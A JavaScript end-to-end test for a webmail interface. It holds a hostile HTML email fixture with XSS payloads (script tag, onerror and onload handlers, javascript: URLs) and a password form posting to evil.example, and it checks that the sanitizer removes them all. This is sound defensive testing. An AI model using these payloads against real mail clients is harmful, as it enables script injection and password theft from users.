// The webmail journey: sign in, read a message delivered over SMTP, open a hostile HTML
// message (no script may run), download its attachment, reply with an attachment (the Rust
// side then finds the reply in the sender's INBOX over IMAP), search, move, delete.
import fs from "node:fs";
import { run, env, smtpSend, assert } from "./lib.mjs";

const base = env("BASE_URL");
const smtpPort = Number(env("SMTP_PORT"));

const plain = `From: Alice <alice@localhost>
To: bob@localhost
Subject: Lunch on Friday
Message-ID: <lunch-1@localhost>

Shall we try the new noodle place? It is next to the pangolin museum.
`;
const hostile = `From: Alice <alice@localhost>
To: bob@localhost
Subject: Newsletter with surprises
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b1

--b1
Content-Type: text/html; charset=utf-8

<h1 id="headline">Big news</h1>
<script>window.pwned = 1; parent.pwned = 1; top.pwned = 1;</script>
<img src="x" onerror="parent.pwned = 2; top.pwned = 2">
<svg onload="top.pwned = 3"></svg>
<a id="bad" href="javascript:top.pwned=4">click</a>
<iframe src="javascript:top.pwned=5"></iframe>
<form action="https://evil.example"><input name="password"></form>
<img src="https://tracker.example/pixel.gif">
<p style="color: green">Styled but harmless.</p>
--b1
Content-Type: text/plain; name="minutes.txt"
Content-Disposition: attachment; filename="minutes.txt"

Minutes of the pangolin committee.
--b1--
`;

await run("webmail", async (page, { shot }) => {
  await smtpSend(smtpPort, "alice@localhost", "bob@localhost", plain);
  await smtpSend(smtpPort, "alice@localhost", "bob@localhost", hostile);

  await page.goto(`${base}/mail`);
  assert(page.url().includes("/mail/login"), `expected the sign-in page, at ${page.url()}`);
  await page.fill("#address", "bob@localhost");
  await page.fill("#password", "secret");
  await page.click("button[type=submit]");
  await page.waitForSelector("#messages");
  const list = await page.textContent("#messages");
  assert(list.includes("Lunch on Friday") && list.includes("Newsletter with surprises"), "both messages listed");
  assert(await page.locator("li.msg.unread").count() === 2, "both unread");
  await shot("mail-list.png");

  // The plain message.
  await page.click("text=Lunch on Friday");
  await page.waitForSelector("#text-body");
  assert((await page.textContent("#text-body")).includes("noodle place"), "text shown");

  // The hostile one: sanitized, sandboxed, nothing runs.
  await page.click("nav >> text=INBOX").catch(() => {});
  await page.goto(`${base}/mail`);
  await page.click("text=Newsletter with surprises");
  const frameElement = await page.waitForSelector("#html-body");
  const frame = await frameElement.contentFrame();
  assert(frame, "the HTML body frame");
  // ids are removed by the sanitizer (they could clobber names on a page): find the heading.
  await frame.waitForSelector("h1");
  assert((await frame.textContent("h1")) === "Big news", "HTML shown");
  assert((await frame.locator("script, svg, iframe, form, input").count()) === 0, "dangerous elements removed");
  await frame.click("text=click", { timeout: 2000 }).catch(() => {});
  await page.waitForTimeout(500);
  const pwned = await page.evaluate(() => window.pwned);
  assert(pwned === undefined, `a script ran in the page: pwned=${pwned}`);
  assert(await page.isVisible("#images-blocked"), "remote images blocked notice");
  await shot("mail-message.png");

  // Download the attachment.
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.click("#attachments >> text=minutes.txt"),
  ]);
  const saved = await download.path();
  assert(fs.readFileSync(saved, "utf8").includes("pangolin committee"), "attachment content");
  assert(download.suggestedFilename() === "minutes.txt", `file name ${download.suggestedFilename()}`);

  // Reply with an attachment.
  await page.click("#reply");
  await page.waitForSelector("#body");
  assert((await page.inputValue("#to")) === "alice@localhost", "reply goes to the sender");
  assert((await page.inputValue("#subject")) === "Re: Newsletter with surprises", "reply subject");
  await page.fill("#body", "Thanks! See the agenda attached.\n\n" + (await page.inputValue("#body")));
  await page.setInputFiles("#attachment", { name: "agenda.txt", mimeType: "text/plain", buffer: Buffer.from("1. Pangolins\n2. Noodles\n") });
  await page.click("#send");
  await page.waitForSelector("text=Your message was sent.");
  assert((await page.textContent("#messages")).includes("Re: Newsletter with surprises"), "copy in Sent");

  // Search.
  await page.fill("#search-box", "pangolin");
  await page.press("#search-box", "Enter");
  await page.waitForSelector("#messages");
  const found = await page.textContent("#messages");
  assert(found.includes("Lunch on Friday"), "search finds the word in the body");

  // Move the lunch message to Archive from the INBOX list.
  await page.goto(`${base}/mail`);
  await page.waitForSelector("#messages");
  await page.locator("li.msg", { hasText: "Lunch on Friday" }).locator("input[name=msg]").check();
  await page.selectOption("select[name=target]", { label: "Archive" });
  await page.click("button[value=move]");
  await page.waitForSelector("text=Moved.");
  assert(!(await page.textContent("#messages")).includes("Lunch on Friday"), "moved out of INBOX");
  await page.click(".folders >> text=Archive");
  await page.waitForSelector("text=Lunch on Friday");

  // Delete the newsletter: it goes to Trash.
  await page.goto(`${base}/mail`);
  await page.click("text=Newsletter with surprises");
  await page.click("#delete");
  await page.waitForSelector("text=Moved to Trash.");
  await page.click(".folders >> text=Trash");
  await page.waitForSelector("text=Newsletter with surprises");

  const finalPwned = await page.evaluate(() => window.pwned);
  assert(finalPwned === undefined, "no script ran at any point");
});
